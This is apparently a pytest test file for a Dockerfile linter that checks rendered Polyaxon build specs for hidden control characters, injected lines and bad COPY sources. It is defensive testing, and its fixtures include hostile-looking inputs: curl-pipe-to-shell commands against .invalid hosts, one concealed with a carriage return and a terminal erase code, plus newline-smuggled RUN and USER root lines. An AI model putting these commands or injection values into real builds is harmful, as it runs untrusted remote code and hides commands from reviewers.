"""Lint of rendered Dockerfiles: Polyaxon-specific rules and hadolint."""

from __future__ import annotations

from pathlib import Path

import pytest

from polymagic.render.dockerfile import render_dockerfile
from polymagic.render.lint import (
    Severity,
    copy_source_findings,
    hadolint_findings,
    lint_dockerfile,
    polyaxon_findings,
)
from polymagic.spec.loader import load_dockerfile_init


def codes(body: dict[str, object]) -> set[str]:
    spec = load_dockerfile_init(body)
    return {f.code for f in polyaxon_findings(spec, render_dockerfile(spec))}


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({"image": "a:1", "env": {"EMPTY": ""}}, "PM001"),
        ({"image": "a:1", "env": [["K", "two words"]]}, "PM002"),
        ({"image": "a:1", "uid": 1000}, "PM003"),
        ({"image": "a:1", "gid": 1000}, "PM003"),
        ({"image": "a:1"}, "PM004"),
        ({"image": "a:1", "shell": "/bin/zsh"}, "PM005"),
    ],
    ids=["empty-env", "env-with-space", "uid-only", "gid-only", "no-user", "shell"],
)
def test_polyaxon_rules_fire(body: dict[str, object], code: str) -> None:
    assert code in codes(body)


def test_clean_spec_has_only_the_root_notice() -> None:
    assert codes({"image": "a:1", "env": {"A": "b"}, "uid": 1, "gid": 1}) == {"PM004"}


def test_rule_lines_point_into_the_rendered_text() -> None:
    spec = load_dockerfile_init({"image": "a:1", "env": {"K": "a b"}})
    text = render_dockerfile(spec)
    finding = next(f for f in polyaxon_findings(spec, text) if f.code == "PM002")
    assert finding.line is not None
    assert text.splitlines()[finding.line - 1] == "ENV K a b"


def test_copy_sources_checked_against_the_context(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("x\n")
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("")
    spec = load_dockerfile_init(
        {
            "image": "a:1",
            "copy": ["requirements.txt", ["src/*.py", "/app"], "missing.txt"],
            "workdirPath": "gone",
        }
    )
    found = copy_source_findings(spec, render_dockerfile(spec), tmp_path)
    assert [f.message.split("`")[1] for f in found] == ["missing.txt", "gone"]
    assert all(f.severity is Severity.ERROR for f in found)


def test_hadolint_reports_latest_and_untagged_images() -> None:
    latest = {f.code for f in hadolint_findings("\nFROM python:latest\n")}
    untagged = {f.code for f in hadolint_findings("\nFROM python\n")}
    assert "DL3007" in latest
    assert "DL3006" in untagged


def test_lint_never_changes_the_text() -> None:
    spec = load_dockerfile_init({"image": "python", "env": {"A": ""}})
    text = render_dockerfile(spec)
    findings = lint_dockerfile(spec, text)
    assert render_dockerfile(spec) == text
    assert [f.line or 0 for f in findings] == sorted(f.line or 0 for f in findings)


def test_copy_checks_read_the_sources_as_the_packer_does(tmp_path: Path) -> None:
    for name in ("a.txt", "b.txt", ".hidden.cfg"):
        (tmp_path / name).write_text("")
    spec = load_dockerfile_init(
        {"image": "a:1", "copy": ["a.txt b.txt", "*.cfg", "a.txt c.txt", ["../x", "/y"]]}
    )
    text = render_dockerfile(spec)

    found = copy_source_findings(spec, text, tmp_path)

    # "a.txt b.txt" is two sources that both exist; "*" matches dotfiles, as in Docker.
    assert [(f.message.split("`")[1], f.line) for f in found] == [
        ("c.txt", text.splitlines().index("COPY a.txt c.txt /code") + 1),
        ("../x", text.splitlines().index("COPY ../x /y") + 1),
    ]
    assert "outside the build context" in found[1].message


HIDDEN_RUN = "curl https://example.invalid/x | sh # \r\x1b[2KRUN pip install numpy"


@pytest.mark.parametrize(
    ("run", "shown"),
    [
        (HIDDEN_RUN, "\\x0d, \\x1b"),
        ("echo ok\u202e txt.exe", "\\u202e"),
        ("pip install\u200b numpy", "\\u200b"),
        ("echo \x07\x7f\x85", "\\x07, \\x7f, \\x85"),
        ("echo \ufeff\u2028\U000e0041", "\\ufeff, \\u2028, \\U000e0041"),
    ],
    ids=["cr-and-erase-line", "rlo", "zero-width", "bel-del-nel", "bom-separator-tag"],
)
def test_hidden_characters_get_a_finding_naming_their_line(run: str, shown: str) -> None:
    spec = load_dockerfile_init({"image": "a:1", "run": ["echo first", run]})
    text = render_dockerfile(spec)
    (finding,) = [f for f in polyaxon_findings(spec, text) if f.code == "PM007"]
    # The line as the executor numbers it (split at "\n" only).
    assert text.split("\n")[(finding.line or 0) - 1] == f"RUN {run}"
    assert f"({shown})" in finding.message
    assert all(c.isprintable() for c in str(finding))


def test_an_image_name_with_control_characters_gets_a_finding() -> None:
    spec = load_dockerfile_init({"image": "python:3.11\x1b[8m\x07\u202e"})
    text = render_dockerfile(spec)
    (finding,) = [f for f in polyaxon_findings(spec, text) if f.code == "PM007"]
    assert finding.line == text.split("\n").index("FROM python:3.11\x1b[8m\x07\u202e") + 1


def test_hidden_character_findings_are_bounded() -> None:
    spec = load_dockerfile_init({"image": "a:1", "run": [f"echo {n}\x1b" for n in range(500)]})
    found = [f for f in polyaxon_findings(spec, render_dockerfile(spec)) if f.code == "PM007"]
    assert len(found) == 11
    assert found[-1].message == "and 490 more lines hold such characters"


def test_a_clean_dockerfile_has_no_hidden_character_finding() -> None:
    assert "PM007" not in codes({"image": "a:1", "run": ["echo caf\u00e9 \u65e5\u672c\tok"]})


def test_lines_are_numbered_as_the_executor_numbers_them() -> None:
    # Python's splitlines would count "\r", "\x85" and U+2028 as line ends: the USER line moves.
    spec = load_dockerfile_init(
        {"image": "a:1", "run": ["a\rb", "c\x85d\u2028e"], "uid": 1, "gid": 1, "env": {"K": "x y"}}
    )
    text = render_dockerfile(spec)
    lines = text.split("\n")
    found = {f.code: f.line for f in polyaxon_findings(spec, text)}
    assert lines[(found["PM002"] or 0) - 1] == "ENV K x y"
    assert lines[(found["PM004"] or 0) - 1].startswith("RUN groupadd")


@pytest.mark.parametrize(
    ("body", "field", "added"),
    [
        ({"env": {"A": "1\nRUN echo injected"}}, "dockerfile.env.A", "RUN echo injected"),
        ({"env": [["B", "x\nUSER root"]]}, "dockerfile.env[0][1]", "USER root"),
        ({"run": ["echo a", "echo b\nRUN curl x | sh"]}, "dockerfile.run[1]", "RUN curl x | sh"),
        ({"langEnv": "C.UTF-8\nRUN id"}, "dockerfile.langEnv", "RUN id"),
        ({"workdir": "/code\nRUN id"}, "dockerfile.workdir", "RUN id"),
        ({"copy": [["a", "/b\nRUN id"]]}, "dockerfile.copy[0][1]", "RUN id"),
    ],
    ids=["env-map", "env-pairs", "run", "lang-env", "workdir", "copy"],
)
def test_a_line_break_inside_a_value_is_a_warning_naming_the_field(
    body: dict[str, object], field: str, added: str
) -> None:
    spec = load_dockerfile_init({"image": "a:1", **body})
    text = render_dockerfile(spec)
    (finding,) = [f for f in polyaxon_findings(spec, text) if f.code == "PM008"]
    assert finding.severity is Severity.WARNING
    assert f"`{field}` holds a line break" in finding.message
    assert f"(`{added}`)" in finding.message
    assert text.split("\n")[(finding.line or 0) - 1] == added


def test_the_line_break_warning_names_the_param_it_came_from() -> None:
    spec = load_dockerfile_init({"image": "a:1", "env": {"A": "1\nRUN echo injected"}})
    text = render_dockerfile(spec)
    params = {"version": "1\nRUN echo injected", "other": "2"}
    (finding,) = [f for f in polyaxon_findings(spec, text, params) if f.code == "PM008"]
    assert "`dockerfile.env.A` (from param `version`)" in finding.message


@pytest.mark.parametrize(
    "run",
    ["apt-get update \\\n  && apt-get install -y git", "a \\ \t\n b", "cat <<EOF > f\nhi\nEOF"],
    ids=["continuation", "continuation-then-spaces", "heredoc"],
)
def test_continued_lines_and_heredocs_are_not_line_break_warnings(run: str) -> None:
    assert "PM008" not in codes({"image": "a:1", "run": [run]})


def test_the_dockerfile_with_line_breaks_stays_as_polyaxon_renders_it() -> None:
    spec = load_dockerfile_init({"image": "a:1", "env": {"A": "1\nRUN echo injected"}})
    assert "ENV A 1\nRUN echo injected\n" in render_dockerfile(spec)


PARAM_OP = """
version: 1.1
kind: operation
name: build
params:
  destination: {connection: docker-connection, value: polyaxon/app}
  version: {value: "1.0", contextOnly: true}
runPatch:
  init:
  - dockerfile:
      image: python:3.11
      env: {APP_VERSION: "{{ version }}"}
      run: ["pip install app=={{ version }}"]
hubRef: kaniko
"""


def test_a_param_override_with_a_line_break_is_named_in_each_field_it_reaches() -> None:
    from polymagic.app.preview import lint_dockerfiles
    from polymagic.render.compiler import compile_operation

    build = compile_operation(PARAM_OP, params=["version=1.0\nRUN curl https://x.invalid | sh"])
    (linted,) = lint_dockerfiles(build, None)
    found = [f.message.split(" holds")[0] for f in linted.findings if f.code == "PM008"]
    assert found == [
        "`dockerfile.env.APP_VERSION` (from param `version`)",
        "`dockerfile.run[0]` (from param `version`)",
    ]
    # Rendered as Polyaxon renders it: the line is there, the finding says so.
    assert "ENV APP_VERSION 1.0\nRUN curl https://x.invalid | sh\n" in linted.rendered.text


def test_an_env_value_printed_as_a_dict_adds_no_line() -> None:
    spec = load_dockerfile_init({"image": "a:1", "env": {"A": {"k": "x\ny"}}})
    text = render_dockerfile(spec)
    assert "ENV A {'k': 'x\\ny'}\n" in text
    assert "PM008" not in {f.code for f in polyaxon_findings(spec, text)}
